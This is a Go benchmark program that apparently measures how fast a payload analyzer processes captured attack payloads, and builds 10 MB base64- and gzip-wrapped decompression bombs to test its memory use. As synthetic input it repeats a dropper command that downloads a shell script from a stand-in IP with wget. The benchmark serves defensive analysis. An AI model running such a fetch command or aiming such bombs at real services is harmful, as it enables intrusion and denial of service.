// Command analyze measures the analysis of payloads; see bench/analyze.sh.
package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"log"
	"math/rand/v2"
	"os"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"time"

	"terroir"
	"terroir/payload"
)

func main() {
	log.SetFlags(0)
	if len(os.Args) != 2 {
		log.Fatal("usage: analyze FOLDER | analyze -bomb")
	}
	if os.Args[1] == "-bomb" {
		bombs()
		return
	}
	for _, set := range []struct {
		name string
		read func(string) ([]sent, error)
	}{{"simulated week", simulated}, {"seed", seed}, {"docker", docker}, {"react2shell", react2shell}} {
		list, err := set.read(os.Args[1])
		if os.IsNotExist(err) {
			fmt.Printf("%-15s not at hand\n", set.name)
			continue
		}
		if err != nil {
			log.Fatal(err)
		}
		measure(set.name, list)
	}
}

// least is how long each set is analyzed over and over, after a first time that is not counted.
const least = 3 * time.Second

func measure(name string, list []sent) {
	var each []time.Duration
	once := func() {
		for _, s := range list {
			begin := time.Now()
			payload.Analyze(s.bytes, s.transport, s.self)
			each = append(each, time.Since(begin))
		}
	}
	once()
	each = each[:0]
	size := 0
	for _, s := range list {
		size += len(s.bytes)
	}
	begin, used := time.Now(), processor()
	rounds := 0
	for ; time.Since(begin) < least; rounds++ {
		once()
	}
	used = processor() - used
	slices.Sort(each)
	n := rounds * len(list)
	fmt.Printf("%-15s %5d distinct, %4d bytes each: %7.0f a second and core; half within %v, 99 %% within %v, the slowest %v\n", name, len(list), size/len(list),
		float64(n)/used.Seconds(), each[n/2].Round(time.Microsecond), each[n*99/100].Round(time.Microsecond), each[n-1].Round(time.Microsecond))
}

// bombs are 10 MB that unpack to more: one whose wrapping squeezes well, and one whose does not.
func bombs() {
	const size = 10 << 20
	command := []byte(strings.Repeat("cd /tmp; wget http://192.0.2.9/x.sh\n", size/36))
	noise := make([]byte, size)
	_, _ = rand.NewChaCha8([32]byte{1}).Read(noise) // It never fails.
	for _, b := range []struct {
		name  string
		bytes []byte
	}{{"10 MB of commands", zipped(encoded(encoded(command)))}, {"10 MB of noise", zipped(encoded(encoded(noise)))}, {"10 MB of commands, gzip inside", encoded(encoded(zipped(command)))}} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		begin := time.Now()
		a := payload.Analyze(b.bytes, terroir.TCP, payload.Self{})
		took := time.Since(begin)
		runtime.ReadMemStats(&after)
		fmt.Printf("%-31s %9d bytes sent: %6.0f ms, %d steps, %.1f MB allocated in all; peak of the process, which made them, %s\n", b.name, len(b.bytes),
			float64(took.Microseconds())/1000, len(a.Facts.Steps), float64(after.TotalAlloc-before.TotalAlloc)/1e6, peak())
	}
}

func encoded(b []byte) []byte {
	return base64.StdEncoding.AppendEncode(nil, b)
}

func zipped(b []byte) []byte {
	var out bytes.Buffer
	z := gzip.NewWriter(&out)
	_, _ = z.Write(b) // Into memory: it does not fail.
	_ = z.Close()
	return out.Bytes()
}

// processor is the time that the process has spent computing.
func processor() time.Duration {
	var u syscall.Rusage
	if syscall.Getrusage(syscall.RUSAGE_SELF, &u) != nil {
		return 0
	}
	return time.Duration(u.Utime.Nano() + u.Stime.Nano())
}

// peak is the greatest size of the process so far, as the kernel counts it.
func peak() string {
	status, err := os.ReadFile("/proc/self/status")
	if err != nil {
		return "unknown"
	}
	for line := range strings.Lines(string(status)) {
		if v, ok := strings.CutPrefix(line, "VmHWM:"); ok {
			return strings.TrimSpace(v)
		}
	}
	return "unknown"
}
